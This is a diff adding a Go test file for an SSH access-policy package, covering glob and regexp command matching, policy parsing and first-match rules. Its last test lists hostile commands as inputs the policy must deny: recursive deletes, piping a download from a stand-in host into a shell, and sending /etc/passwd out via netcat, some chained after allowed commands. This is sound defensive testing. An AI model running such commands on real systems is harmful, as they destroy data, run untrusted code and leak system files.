@@ -0,0 +1,178 @@
+package ssh
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestWildcardMatch(t *testing.T) {
+	for _, tc := range []struct {
+		pat, str string
+		want     bool
+	}{
+		{"", "", true},
+		{"", "a", false},
+		{"*", "", true},
+		{"*", "anything", true},
+		{"a*", "a", true},
+		{"a*c", "abbbc", true},
+		{"a*c", "abbbd", false},
+		{"a?c", "abc", true},
+		{"a?c", "ac", false},
+		{"git-*-pack *", "git-upload-pack 'repo.git'", true},
+		{"LC_*", "LANG", false},
+		{"*a*b", "xaybzb", true},
+		{"*a*b", "xaybzc", false},
+		{"a*b*c*", "abc", true},
+		{"?*?", "a", false},
+		{"*?", "", false},
+		{"**x", "yyx", true},
+	} {
+		if got := wildcardMatch(tc.pat, tc.str); got != tc.want {
+			t.Errorf("wildcardMatch(%q, %q) = %v, want %v", tc.pat, tc.str, got, tc.want)
+		}
+	}
+}
+
+func TestWildcardMatchPathological(t *testing.T) {
+	// A backtracking matcher takes exponential time here.
+	pat := strings.Repeat("a*", 30) + "b"
+	str := strings.Repeat("a", 10000)
+	done := make(chan bool, 1)
+	go func() { done <- wildcardMatch(pat, str) }()
+	select {
+	case matched := <-done:
+		if matched {
+			t.Errorf("wildcardMatch(%q, ...) = true, want false", pat)
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatalf("wildcardMatch did not return within 5s")
+	}
+}
+
+func TestParsePolicy(t *testing.T) {
+	in := []byte(`
+# Backups run unattended; everything else needs approval.
+command exact "/usr/local/bin/backup --full" allow
+command regexp "^git-(upload|receive)-pack '[^']*'$" allow
+command glob * escalate message="ask first"
+
+channel session allow
+channel direct-tcpip allow
+request pty-req allow
+request env LC_* allow
+request subsystem sftp deny message="no sftp" disconnect
+forward localhost:5432 allow
+forward *:* escalate
+max-sessions 2
+default deny message="not in policy"
+`)
+	p, err := ParsePolicy(in)
+	if err != nil {
+		t.Fatalf("ParsePolicy: %v", err)
+	}
+
+	allow := Rule{Decision: Allow}
+	want := &Policy{
+		Commands: []CommandRule{
+			{Rule: allow, Match: MatchExact, Pattern: "/usr/local/bin/backup --full"},
+			{Rule: allow, Match: MatchRegexp, Pattern: "^git-(upload|receive)-pack '[^']*'$"},
+			{Rule: Rule{Decision: Escalate, Message: "ask first"}, Match: MatchGlob, Pattern: "*"},
+		},
+		Channels: []ChannelRule{
+			{Rule: allow, Type: "session"},
+			{Rule: allow, Type: "direct-tcpip"},
+		},
+		Requests: []RequestRule{
+			{Rule: allow, Type: "pty-req"},
+			{Rule: allow, Type: "env", Name: "LC_*"},
+			{Rule: Rule{Decision: Deny, Message: "no sftp", Disconnect: true}, Type: "subsystem", Name: "sftp"},
+		},
+		Forwards: []ForwardRule{
+			{Rule: allow, Host: "localhost", Port: 5432},
+			{Rule: Rule{Decision: Escalate}, Host: "*"},
+		},
+		MaxSessions: 2,
+		Default:     Rule{Decision: Deny, Message: "not in policy"},
+	}
+
+	// Compare without the compiled regular expressions.
+	for i := range p.Commands {
+		p.Commands[i].re = nil
+	}
+	if !reflect.DeepEqual(p, want) {
+		t.Errorf("got %+v, want %+v", p, want)
+	}
+}
+
+func TestParsePolicyErrors(t *testing.T) {
+	for _, in := range []string{
+		"command exact ls",
+		"command fuzzy ls allow",
+		"command regexp ( allow",
+		"channel session maybe",
+		"forward localhost allow",
+		"forward localhost:http allow",
+		"max-sessions -1",
+		"default allow message",
+		`command exact "ls allow`,
+		"permit everything",
+	} {
+		if _, err := ParsePolicy([]byte(in)); err == nil {
+			t.Errorf("ParsePolicy(%q) succeeded, want error", in)
+		}
+	}
+}
+
+func TestPolicyFirstMatchWins(t *testing.T) {
+	p := &Policy{
+		Commands: []CommandRule{
+			{Rule: Rule{Decision: Deny}, Match: MatchGlob, Pattern: "rm *"},
+			{Rule: Rule{Decision: Allow}, Match: MatchGlob, Pattern: "*"},
+		},
+		Default: Rule{Decision: Escalate},
+	}
+	if err := p.compile(); err != nil {
+		t.Fatal(err)
+	}
+	if d := p.command("rm -rf /").Decision; d != Deny {
+		t.Errorf("rm: got %v, want deny", d)
+	}
+	if d := p.command("ls").Decision; d != Allow {
+		t.Errorf("ls: got %v, want allow", d)
+	}
+	if d := p.channel("x11").Decision; d != Escalate {
+		t.Errorf("unmatched channel: got %v, want escalate", d)
+	}
+}
+
+func TestPolicyRegexpMatchesWholeCommand(t *testing.T) {
+	p := &Policy{
+		Commands: []CommandRule{
+			{Rule: Rule{Decision: Allow}, Match: MatchRegexp, Pattern: "ls -l"},
+			{Rule: Rule{Decision: Allow}, Match: MatchRegexp, Pattern: "^git status"},
+			{Rule: Rule{Decision: Allow}, Match: MatchRegexp, Pattern: "cat|head"},
+		},
+		Default: Rule{Decision: Deny},
+	}
+	if err := p.compile(); err != nil {
+		t.Fatal(err)
+	}
+	for cmd, want := range map[string]Decision{
+		"ls -l":                     Allow,
+		"rm -rf ~; ls -l":           Deny,
+		"ls -l; rm -rf ~":           Deny,
+		"git status":                Allow,
+		"git status; curl evil|sh":  Deny,
+		"cat":                       Allow,
+		"head":                      Allow,
+		"cat /etc/passwd | nc x 80": Deny,
+		"true; head":                Deny,
+	} {
+		if d := p.command(cmd).Decision; d != want {
+			t.Errorf("%q: got %v, want %v", cmd, d, want)
+		}
+	}
+}